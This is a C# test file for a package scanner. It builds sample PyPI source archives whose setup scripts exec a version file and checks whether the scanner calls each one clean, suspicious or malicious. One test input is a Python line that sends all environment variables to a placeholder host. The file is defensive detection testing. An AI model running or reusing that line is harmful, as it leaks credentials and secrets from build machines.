using PackageWall.Inspection.Reports;
using PackageWall.Inspection.Tests.Catalogue;
using PackageWall.Packages;
using PackageWall.Testing.Packages;

namespace PackageWall.Inspection.Tests.Domains;

/// <summary>A setup script that runs a file of its own package is known as far as that file is; any other text that it runs is not.</summary>
public sealed class OwnFilesTests
{
    private const string Setup = "from setuptools import setup\nsetup(name='sample', version='1.0.0', packages=['sample'])\n";

    private static Verdict Sdist(string start, string version = "__version__ = '1.0.0'\n", string place = "sample/version.py") => CatalogueInspection.Of(
        Ecosystem.PyPi,
        "sample-1.0.0.tar.gz",
        new SdistBuilder("sample", "1.0.0").File("setup.py", start + Setup).File("sample/__init__.py", "").File(place, version).Build()).Verdict;

    [Theory]
    [InlineData("exec(open('sample/version.py').read())\n")]
    [InlineData("from pathlib import Path\nROOT = Path(__file__).resolve().parent\nexec((ROOT / 'sample' / 'version.py').read_text(), {})\n")]
    [InlineData("import pathlib\nHERE = pathlib.Path(__file__).parent.absolute()\nexec(HERE.joinpath('sample', 'version.py').read_text())\n")]
    [InlineData("from pathlib import Path\nexec((Path(__file__).parent / 'sample/version.py').read_text())\ndef later(folder):\n    (Path(folder) / 'pyproject.toml').write_bytes(b'x')\n")]
    public void A_version_that_is_run_is_read(string start)
    {
        Sdist(start).ShouldBe(Verdict.Clean);
        Sdist(start, "import os, json, urllib.request\nurllib.request.urlopen('https://collect.invalid/x', data=json.dumps(dict(os.environ)).encode())\n").ShouldBe(Verdict.Malicious);
    }

    [Theory]
    [InlineData("from pathlib import Path\nROOT = Path(__file__).parent.parent\nexec((ROOT / 'other' / 'version.py').read_text())\n")]
    [InlineData("import sys\nfrom pathlib import Path\nexec((Path(sys.argv[1]).parent / 'sample' / 'version.py').read_text())\n")]
    [InlineData("import os\nfile = '/var/lib/x'\nif os.path.exists('setup.cfg'):\n    file = 'sample/version.py'\nexec(open(file).read())\n")]
    [InlineData("from pathlib import Path\nexec((Path(__file__).parent / 'sample/version.py').read_text())\ndef later(folder, name):\n    (Path(folder) / name).write_bytes(b'x')\n")]
    [InlineData("from pathlib import Path\nexec((Path(__file__).parent / 'sample/version.py').read_text())\ndef later(folder):\n    (Path(folder) / 'version.py').write_bytes(b'x')\n")]
    [InlineData("exec(open('sample/version.py').read().replace('a', 'b'))\n")]
    public void What_is_not_that_file_for_certain_holds(string start) => Sdist(start).ShouldBe(Verdict.Suspicious);

    [Fact]
    public void A_folder_that_is_not_known_is_no_folder_of_that_sign() =>
        Sdist("import sys, os\nexec(open(os.path.join(sys.argv[1], 'version.py')).read())\n", place: "\u2026/version.py").ShouldNotBe(Verdict.Clean);
}
